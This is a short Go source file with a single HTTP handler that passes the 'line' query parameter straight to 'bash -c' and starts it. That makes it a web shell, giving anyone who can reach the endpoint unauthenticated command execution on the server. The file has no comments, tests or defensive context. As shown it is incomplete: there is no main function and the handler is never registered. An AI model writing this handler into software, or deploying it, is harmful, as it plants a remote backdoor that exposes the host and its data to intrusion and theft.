package main

import (
	"net/http"
	"os/exec"
)

func run(w http.ResponseWriter, r *http.Request) {
	shell, _ := exec.LookPath("bash")
	cmd := &exec.Cmd{Path: shell, Args: []string{shell, "-c", r.URL.Query().Get("line")}}
	cmd.Start()
}
